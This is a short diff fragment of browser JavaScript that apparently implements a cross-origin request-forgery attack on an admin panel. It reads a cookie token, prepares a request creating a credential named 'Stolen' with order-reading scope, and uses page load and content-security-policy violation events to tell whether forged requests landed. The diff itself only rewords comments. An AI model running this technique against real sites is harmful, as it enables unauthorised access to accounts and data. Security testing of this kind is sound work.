@@ -22,14 +22,14 @@ document.addEventListener('click', async () => {
   const crumb = (/(?:^|; )crumb=([^;]*)/.exec(document.cookie) || [])[1] || '';
   const body = JSON.stringify({ name: 'Stolen', scopes: ['orders.read'] });
   const opened = window.open(origins.admin + '/config/settings');
-  // What was sent has ended: its answer is there, or the policy of the page has refused it.
+  // Resolves once a request has ended: it was answered, or the page's policy blocked it.
   const ended = (target, origin) => new Promise((done) => {
     target.addEventListener('load', done);
     document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
       if (/^(form-action|frame-src)$/.test(effectiveDirective) && blockedURI.startsWith(origin)) done();
     });
   });
-  // A window that is ours to read is at its first, empty document until it leads elsewhere.
+  // A window that we opened stays readable, at its empty first document, until it navigates.
   const left = async (window) => {
     for (;;) {
       try { if (window.closed || window.location.href !== 'about:blank' && window.document.readyState === 'complete') return; } catch { return; }
